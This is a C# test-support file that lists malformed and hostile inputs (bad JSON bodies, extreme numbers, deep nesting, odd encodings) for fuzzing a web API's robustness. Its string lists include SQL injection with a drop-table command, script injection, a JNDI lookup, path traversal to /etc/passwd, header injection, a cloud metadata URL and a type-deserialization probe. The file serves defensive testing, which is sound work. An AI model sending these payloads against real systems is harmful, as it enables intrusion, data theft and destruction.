using System.Globalization;
using System.Text;

namespace EPerfect.Hostile;

/// <summary>Values that nobody expects. Each as JSON text, so that what no serializer would write can be sent too.</summary>
internal static class Spoilt
{
    /// <summary>In the place of any value of a body.</summary>
    public static readonly IReadOnlyList<string> Json =
    [
        "null", "true", "false", "0", "-1", "1e400", "-0.0", "1.7976931348623157e308", "9223372036854775808",
        "-9223372036854775809", "0.1234567890123456789012345678901234567890", "[]", "{}", "[null]", "[[[[]]]]", "\"\"", "\" \"",
        "{\"$type\":\"System.IO.FileInfo, System.IO\"}", "{\"$ref\":\"#\"}", "[{},{},{}]", "NaN", "Infinity", "undefined", "'x'",
        .. Texts().Select(Quoted),
        $"\"{new string('a', 20_000)}\"", $"[{string.Join(',', Enumerable.Repeat("0", 10_000))}]", Nested('[', ']', 60),
        Nested('[', ']', 5_000), string.Concat(Enumerable.Repeat("{\"a\":", 2_000)) + "1" + new string('}', 2_000),
        new string('9', 400), "\"\\ud800\"", "\"\\u0000\"",
    ];

    /// <summary>In the place of a whole body: malformed, cut off, of another encoding, too large.</summary>
    public static readonly IReadOnlyList<byte[]> Bodies =
    [
        [], "{"u8.ToArray(), "}"u8.ToArray(), "[1,"u8.ToArray(), "{\"a\":1"u8.ToArray(), "{\"a\":1}}"u8.ToArray(),
        "{\"a\":1}{\"a\":2}"u8.ToArray(), "{a:1}"u8.ToArray(), "// x\n{}"u8.ToArray(), "null"u8.ToArray(), "\"\""u8.ToArray(),
        "<xml/>"u8.ToArray(), "a=1&b=2"u8.ToArray(), [0xEF, 0xBB, 0xBF, (byte)'{', (byte)'}'], [0xFF, 0xFE, (byte)'{', 0],
        [(byte)'"', 0xC3, 0x28, (byte)'"'], new byte[1000], Encoding.UTF8.GetBytes(new string(' ', 60_000)),
        Encoding.UTF8.GetBytes(new string('[', 60_000)), Encoding.UTF8.GetBytes($"\"{new string('x', 200_000)}\""),
    ];

    /// <summary>What a form may say that it is; the first is right.</summary>
    public static readonly IReadOnlyList<string> FormTypes =
    [
        "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "multipart/form-data",
        "multipart/form-data; boundary=other", "application/x-www-form-urlencoded; charset=utf-16", "application/json",
        "text/plain",
    ];

    /// <summary>In the place of a parameter of a path or a query, or of a header: as text, to be escaped or not.</summary>
    public static IReadOnlyList<string> Words { get; } =
    [
        .. Texts(), "00000000-0000-0000-0000-000000000000", "ffffffff-ffff-ffff-ffff-ffffffffffff", "-1", "0",
        "99999999999999999999", "1e9", "%00", "%2e%2e%2f", "..;/", "%ff%fe", "*", "null", "true", new string('a', 3_000),
        "{0190f3a0-0000-7000-8000-000000000abc}", "0190f3a000007000800000000000abcd",
    ];

    private static IEnumerable<string> Texts() =>
    [
        "' or 1=1 --", "\"; drop table mt_events; --", "<script>alert(1)</script>", "{{7*7}}", "${jndi:ldap://x.example/a}",
        "../../../../etc/passwd", "\r\nSet-Cookie: a=b", "a\0b", "\u202Eabc", "e\u0301", "\uFEFF", "\uD83D\uDE00",
        "İıſK", "ａ",
        "%s%n%x", "4111 1111 1111 1111", "2030-02-30", "0000-00-00T00:00:00Z", "9999-12-31T23:59:59.9999999+14:00", "1.0",
        "xn--a", "a@b@c", "http://169.254.169.254/", "file:///etc/passwd", "+99999999999999999999", "true", "-", "\t", "\u0007",
        string.Create(CultureInfo.InvariantCulture, $"{Guid.Empty}"),
    ];

    private static string Quoted(string text) => System.Text.Json.JsonSerializer.Serialize(text);

    private static string Nested(char open, char close, int depth) => new string(open, depth) + new string(close, depth);
}
